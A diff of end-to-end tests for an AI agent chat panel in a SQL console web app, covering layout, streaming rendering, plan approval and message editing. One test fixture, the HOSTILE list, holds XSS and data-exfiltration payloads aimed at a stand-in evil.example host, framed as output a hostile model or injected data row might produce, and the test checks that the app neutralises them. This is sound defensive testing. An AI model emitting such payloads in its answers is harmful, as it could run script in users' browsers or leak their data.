@@ -8,10 +8,10 @@ import { expect, expectAccessible, test } from "./fixtures";
 const panel = (page: Page) => page.getByRole("complementary", { name: "Agent" });
 const field = (page: Page) => page.getByRole("textbox", { name: "Message to the agent" });
 
+/** Beside the consoles it is open from the start. */
 async function open(page: Page, slug: string): Promise<void> {
   await page.goto(`/w/${slug}`);
-  await page.getByRole("button", { name: "Agent", exact: true }).click();
-  await expect(field(page)).toBeFocused();
+  await field(page).click();
 }
 
 async function ask(page: Page, text: string): Promise<void> {
@@ -68,17 +68,60 @@ test("a question is answered by a query that is shown, and the chat is there aft
   await expect(page.locator(".cm-content").first()).toContainText(/select/i);
 });
 
-test("the panel is opened and put away by its shortcut, and keeps its width", async ({ page, person }) => {
+test("the panel is open beside consoles and flows from the start, stays away once it was put away, and keeps its width", async ({
+  page,
+  person,
+  consolePage,
+}) => {
   await page.goto(`/w/${person.slug}`);
-  await page.keyboard.press("ControlOrMeta+j");
-  await expect(field(page)).toBeFocused();
+  // The work keeps the focus.
+  await expect(field(page)).toBeVisible();
+  await expect(consolePage.editor).toBeFocused();
   const edge = page.getByRole("separator", { name: "Width of the agent" });
   await edge.press("ArrowLeft");
   await expect(edge).toHaveAttribute("aria-valuenow", "396");
   await page.reload();
   await expect(edge).toHaveAttribute("aria-valuenow", "396");
+  const agentButton = page.getByRole("button", { name: "Agent", exact: true });
+  await page.getByRole("link", { name: "Flows", exact: true }).click();
+  await expect(page).toHaveURL(/\/flows$/);
+  await expect(panel(page)).toBeVisible();
+  await page.getByRole("link", { name: "Connections", exact: true }).click();
+  await expect(page).toHaveURL(/\/connections$/);
+  await expect(panel(page)).toHaveCount(0);
+  await agentButton.click();
+  await expect(field(page)).toBeFocused();
+  await page.getByRole("link", { name: "Consoles", exact: true }).click();
+  await expect(consolePage.editor).toBeVisible();
   await page.keyboard.press("ControlOrMeta+j");
   await expect(panel(page)).toHaveCount(0);
+  await page.reload();
+  await expect(consolePage.editor).toBeVisible();
+  await expect(agentButton).toHaveAttribute("aria-expanded", "false");
+  await page.keyboard.press("ControlOrMeta+j");
+  await expect(field(page)).toBeFocused();
+});
+
+test("on a narrow page the panel waits until it is asked for, lies over the work, and leaves a wide page alone", async ({
+  page,
+  person,
+  consolePage,
+}) => {
+  await page.setViewportSize({ width: 1100, height: 800 });
+  await page.goto(`/w/${person.slug}`);
+  await expect(consolePage.editor).toBeVisible();
+  await expect(panel(page)).toHaveCount(0);
+  await page.getByRole("button", { name: "Agent", exact: true }).click();
+  await expect(field(page)).toBeFocused();
+  await page.getByRole("button", { name: "Hide the agent" }).click();
+  await expect(panel(page)).toHaveCount(0);
+  await page.setViewportSize({ width: 1440, height: 900 });
+  await expect(panel(page)).toBeVisible();
+});
+
+test("an address may ask for the list of chats, on any page", async ({ page, person }) => {
+  await page.goto(`/w/${person.slug}/connections?chats=`);
+  await expect(panel(page).getByRole("searchbox", { name: "Search chats" })).toBeVisible();
 });
 
 test("the panel opens when the line was cut before its first use, and what is typed stays", async ({
@@ -95,6 +138,8 @@ test("the panel opens when the line was cut before its first use, and what is ty
   await context.setOffline(true);
   // By its key: a pointer over the button would ask for the tip's script.
   await page.keyboard.press("ControlOrMeta+j");
+  await expect(panel(page)).toHaveCount(0);
+  await page.keyboard.press("ControlOrMeta+j");
   await field(page).fill("How many orders are there?");
   await page.keyboard.press("Enter");
   await expect(
@@ -105,31 +150,129 @@ test("the panel opens when the line was cut before its first use, and what is ty
   await context.setOffline(false);
 });
 
+/** What a hostile model, or a row that it repeats, may put into an answer. */
+const HOSTILE = [
+  "![x](https://evil.example/?d=secret) and [Our docs](https://evil.example/docs)",
+  "[run](javascript:alert(1)) [run](JaVaScRiPt:alert(1)) [run](data:text/html,<script>alert(1)</script>) [run](vbscript:x)",
+  "<javascript:alert(1)> [near](//evil.example/near) [here](/api/auth/logout) [ref][r] ![ref][i]",
+  '<img src="https://evil.example/2.png" onerror="alert(1)"> <a href="https://evil.example/3">press</a> <script>alert(1)</script>',
+  '<iframe src="https://evil.example/4"></iframe> <svg onload="alert(1)"><image href="https://evil.example/5.png"/></svg>',
+  '<style>@import url("https://evil.example/6.css"); body { background: url(https://evil.example/7.png) }</style>',
+  "| a | b |\n| - | - |\n| ![t](https://evil.example/8.png) | <img src=https://evil.example/9.png> |",
+  "- item\n  - ![l](https://evil.example/10.png)\n\n> ![q](https://evil.example/11.png)",
+  "[r]: javascript:alert(1)\n[i]: https://evil.example/12.png",
+].join("\n\n");
+
 test("a link of an answer shows its host, and no image, markup or script of it reaches the browser (T65)", async ({
   page,
   person,
 }) => {
   const asked: string[] = [];
   page.on("request", (request) => asked.push(request.url()));
-  await answerWith(
-    page,
-    said(
-      '![x](https://evil.example/?d=secret) [Our docs](https://evil.example/docs) [run](javascript:alert(1)) <img src="https://evil.example/2.png"> <script>alert(1)</script>',
-    ),
-  );
+  page.on("dialog", () => asked.push("a script of the answer has run"));
+  const query = "select '<img src=https://evil.example/13.png>' as x";
+  await answerWith(page, [
+    { type: "start", messageId: "0123456789abcdef01234567" },
+    { type: "start-step" },
+    { type: "text-start", id: "1" },
+    { type: "text-delta", id: "1", delta: HOSTILE },
+    { type: "text-end", id: "1" },
+    { type: "tool-input-available", toolCallId: "q", toolName: "run_query", input: { query } },
+    {
+      type: "tool-output-available",
+      toolCallId: "q",
+      output: {
+        executionId: "e",
+        fields: [{ name: "<img src=https://evil.example/14.png>", type: "string" }],
+        rows: [{ "<img src=https://evil.example/14.png>": "<img src=https://evil.example/15.png>" }],
+        rowCount: 1,
+        truncated: false,
+        durationMs: 3,
+      },
+    },
+    { type: "finish-step" },
+    { type: "finish", finishReason: "stop" },
+  ]);
   await open(page, person.slug);
   await ask(page, "Say something");
   const answer = panel(page).locator(".answer");
   await expect(answer.getByRole("link", { name: "Our docs" })).toHaveAttribute("rel", /noreferrer/);
   await expect(answer).toContainText("(evil.example)");
+  // Every other address is none of the web's, or none at all.
   await expect(answer.getByRole("link")).toHaveCount(1);
-  await expect(answer.locator("img, script, iframe")).toHaveCount(0);
-  expect(asked.filter((url) => url.includes("evil.example"))).toEqual([]);
+  await expect(answer.locator("img, script, iframe, style, image, object, embed, form")).toHaveCount(0);
+  expect(asked.filter((url) => !url.startsWith(new URL(page.url()).origin))).toEqual([]);
+});
+
+declare global {
+  interface Window {
+    /** Hands the next chunk of the answer to the page. */
+    sayNext: (chunk: object | null) => void;
+  }
+}
+
+test("an answer grows without flicker: what is drawn stays, and what is open yet is drawn as if it were closed", async ({
+  page,
+  person,
+}) => {
+  await page.addInitScript(() => {
+    const real = window.fetch;
+    window.fetch = async (input, init) => {
+      if (!String(input instanceof Request ? input.url : input).endsWith("/api/agent/chat")) return real(input, init);
+      const body = new ReadableStream({
+        start(controller) {
+          const encoder = new TextEncoder();
+          window.sayNext = (chunk) => {
+            controller.enqueue(encoder.encode(`data: ${chunk === null ? "[DONE]" : JSON.stringify(chunk)}\n\n`));
+            if (chunk === null) controller.close();
+          };
+        },
+      });
+      return new Response(body, { headers: { "content-type": "text/event-stream" } });
+    };
+  });
+  const say = (...chunks: (object | null)[]) =>
+    page.evaluate((all) => {
+      for (const chunk of all) window.sayNext(chunk);
+    }, chunks);
+  const grow = (delta: string) => say({ type: "text-delta", id: "1", delta });
+  await open(page, person.slug);
+  await field(page).fill("Say something long");
+  await page.keyboard.press("Enter");
+  await expect(panel(page).getByRole("status", { name: "The agent is thinking" })).toBeVisible();
+  await say({ type: "start", messageId: "0123456789abcdef01234567" }, { type: "start-step" });
+  await say({ type: "text-start", id: "1" });
+  await grow("The first paragraph is **bo");
+  const answer = panel(page).locator(".answer");
+  await expect(answer.locator("strong")).toHaveText("bo");
+  await expect(answer).not.toContainText("*");
+  // Marked, so that the same element is known again.
+  await answer
+    .locator("p")
+    .first()
+    .evaluate((element) => element.setAttribute("data-seen", ""));
+  await grow("ld**.\n\nThen `co");
+  await expect(answer.locator("code")).toHaveText("co");
+  await grow("de` and [a li");
+  await expect(answer).not.toContainText("[");
+  await grow("nk](https://example.com/a).\n\n| a | b |\n| - | - |\n| 1 | 2");
+  await expect(answer.locator("table")).toContainText("2");
+  await answer.locator("table").evaluate((element) => element.setAttribute("data-seen", ""));
+  await grow(" |\n| 3 | 4 |\n\n```sql\nselect 1");
+  await expect(answer.locator("pre")).toContainText("select 1");
+  await expect(answer).not.toContainText("```");
+  await grow("\n```\n\nDone.");
+  await say({ type: "text-end", id: "1" }, { type: "finish-step" }, { type: "finish", finishReason: "stop" }, null);
+  await expect(answer).toContainText("Done.");
+  await expect(answer.locator("p").first()).toHaveAttribute("data-seen", "");
+  await expect(answer.locator("table")).toHaveAttribute("data-seen", "");
+  await expect(answer.getByRole("link", { name: "a link" })).toHaveAttribute("href", "https://example.com/a");
 });
 
 test("a failure within the stream says what to do, and the question can be asked again", async ({ page, person }) => {
+  // An answer that the record does not know, as this one, is asked for anew and not replaced there.
   await answerWith(page, [
-    { type: "start", messageId: "0123456789abcdef01234567" },
+    { type: "start", messageId: "told-by-nobody" },
     { type: "error", errorText: "The model's provider has too much to do. Wait a little, then try again." },
     { type: "finish", finishReason: "error" },
   ]);
@@ -155,6 +298,72 @@ test("an answer is stopped, and the question can be changed and sent anew", asyn
   await expect(field(page)).toHaveValue("How many orders are there?");
   await ask(page, "How many customers are there?");
   await expect(panel(page).getByRole("button", { name: /Ran a query/ })).toBeVisible();
+});
+
+test("a message that is changed takes the place of the one before it and of what followed, also in the record", async ({
+  page,
+  person,
+}) => {
+  await open(page, person.slug);
+  await ask(page, "How many orders are there?");
+  await ask(page, "How many customers are there?");
+  const said = panel(page).locator(".me");
+  await expect(said).toHaveCount(2);
+  await panel(page).getByRole("button", { name: "Edit and send again" }).first().click();
+  await expect(field(page)).toBeFocused();
+  await expect(field(page)).toHaveValue("How many orders are there?");
+  await expect(panel(page).getByText("Changing an earlier message")).toBeVisible();
+  await page.keyboard.press("Escape");
+  await expect(field(page)).toHaveValue("");
+  await panel(page).getByRole("button", { name: "Edit and send again" }).first().click();
+  await ask(page, "How many products are there?");
+  await expect(said).toHaveText(["How many products are there?"]);
+  await page.reload();
+  await expect(said).toHaveText(["How many products are there?"]);
+  // Asking again replaces the answer, and the question is there once.
+  const answered = page.waitForResponse((response) => response.url().endsWith("/api/agent/chat"));
+  await panel(page).getByRole("button", { name: "Ask again" }).click();
+  await (await answered).finished();
+  await expect(panel(page).getByRole("button", { name: "Ask again" })).toBeVisible();
+  await expect(said).toHaveCount(1);
+  await page.reload();
+  await expect(said).toHaveText(["How many products are there?"]);
+  await expect(panel(page).locator(".answer")).toHaveCount(1);
+});
+
+test("the whole result of a query is opened as a grid, sorted and read to its end", async ({ page, person }) => {
+  await open(page, person.slug);
+  await ask(page, "List all customers");
+  await panel(page).getByRole("button", { name: "Whole result" }).click();
+  const grid = page.getByRole("dialog", { name: "Whole result" }).getByRole("grid");
+  await expect(grid.getByRole("gridcell").first()).toBeVisible();
+  const rows = Number(await grid.getAttribute("aria-rowcount"));
+  expect(rows).toBeGreaterThan(200);
+  await expectAccessible(page);
+  await page.keyboard.press("Escape");
+  await expect(page.getByRole("dialog")).toHaveCount(0);
+});
+
+test("what stands in a console that was never saved goes along, and a failed query is mended without a network", async ({
+  page,
+  person,
+  consolePage,
+}) => {
+  await page.goto(`/w/${person.slug}`);
+  await consolePage.newConsole.click();
+  await expect(consolePage.tabs).toHaveText(["best-sellers.sql", "untitled.sql"]);
+  await consolePage.write("select count(*) as n from ordrs");
+  await consolePage.run.click();
+  const sent = page.waitForRequest((request) => request.url().endsWith("/api/agent/chat"));
+  await page.getByRole("button", { name: "Fix this error" }).click();
+  const body = (await sent).postDataJSON();
+  const [shown] = body.openConsoles;
+  expect(shown).toMatchObject({ id: body.consoleId, content: "select count(*) as n from ordrs" });
+  await expect(panel(page).getByText("Proposed edit")).toBeVisible({ timeout: 30_000 });
+  await panel(page).getByRole("button", { name: "Accept" }).click();
+  await expect(page.locator(".editor-pane .cm-content")).toHaveText("select count(*) as n from orders");
+  await consolePage.run.click();
+  await expect(consolePage.cell(1, 1)).toHaveText("100000");
 });
 
 test("a chart of the agent is drawn over the rows that its query has shown", async ({ page, person }) => {
@@ -226,6 +435,47 @@ test("a plan waits for the person, who gives less than was asked for", async ({ 
   await panel(page).getByRole("button", { name: "Approve plan" }).click();
   await expect(panel(page).getByText("Plan approved")).toBeVisible();
   expect(sent).toEqual({ agentSessionId, decision: "approve", grants: ["console-write"] });
+});
+
+test("a plan is sent back with what should be different, or cancelled, and then nothing is allowed", async ({
+  page,
+  person,
+}) => {
+  for (const [decision, press, ended] of [
+    ["request_changes", "Request changes", "Changes asked for"],
+    ["cancel", "Cancel", "Plan cancelled"],
+  ] as const) {
+    const agentSessionId = crypto.randomUUID();
+    const input = { agentSessionId, planMarkdown: "1. Save the console", grants: ["console-write"] };
+    await answerWith(page, [
+      { type: "start", messageId: "0123456789abcdef01234567" },
+      { type: "start-step" },
+      { type: "tool-input-available", toolCallId: "call", toolName: "propose_plan", input },
+      {
+        type: "tool-output-available",
+        toolCallId: "call",
+        output: { agentSessionId, status: "pending", grants: [], expiresAt: null, planMarkdown: null, decidedAt: null },
+      },
+      { type: "finish-step" },
+      { type: "finish", finishReason: "stop" },
+    ]);
+    await open(page, person.slug);
+    await ask(page, "Save it");
+    const status = decision === "cancel" ? "cancelled" : "changes_requested";
+    await page.route("**/api/agent/plan-decision", (route) =>
+      route.fulfill({ json: { success: true, data: { agentSessionId, status, grants: [], expiresAt: null } } }),
+    );
+    const decided = page.waitForRequest("**/api/agent/plan-decision");
+    await panel(page).getByRole("button", { name: press, exact: true }).click();
+    if (decision === "request_changes") {
+      await panel(page).getByRole("textbox", { name: "What should be different" }).fill("Call it orders");
+      await panel(page).getByRole("button", { name: "Send changes" }).click();
+    }
+    const planMarkdown = decision === "cancel" ? {} : { planMarkdown: "Call it orders" };
+    expect((await decided).postDataJSON()).toEqual({ agentSessionId, decision, ...planMarkdown });
+    await expect(panel(page).getByText(ended)).toBeVisible();
+    await expect(panel(page).getByText("Nothing was changed.")).toBeVisible();
+  }
 });
 
 test("SQL of an answer becomes an edit of the open console, accepted and taken back", async ({
@@ -301,6 +551,26 @@ test("a table is named from the list behind @, and a thumb is kept with its word
   expect((await kept).status()).toBe(200);
   await page.reload();
   await expect(panel(page).getByRole("button", { name: "Not helpful" })).toHaveAttribute("aria-pressed", "true");
+});
+
+test("consoles and connections are named from the list behind @, too, by the keyboard alone", async ({
+  page,
+  person,
+}) => {
+  await open(page, person.slug);
+  await field(page).pressSequentially("Look at @best");
+  await expect(page.getByRole("option", { name: /best-sellers/ })).toHaveAttribute("aria-selected", "true");
+  await page.keyboard.press("Enter");
+  await field(page).pressSequentially("in @Sample");
+  await expect(page.getByRole("option", { name: /^Sample shop/ })).toBeVisible();
+  await page.keyboard.press("Escape");
+  await expect(page.getByRole("option")).toHaveCount(0);
+  await field(page).pressSequentially(" sh");
+  await page.keyboard.press("Backspace");
+  await expect(field(page)).toHaveValue("Look at @best-sellers.sql in @Sample s");
+  await field(page).fill("Look at @best-sellers.sql in @Samp");
+  await page.keyboard.press("Tab");
+  await expect(field(page)).toHaveValue('Look at @best-sellers.sql in @"Sample shop" ');
 });
 
 test("on a phone the agent is a view of its own", async ({ page, person }) => {
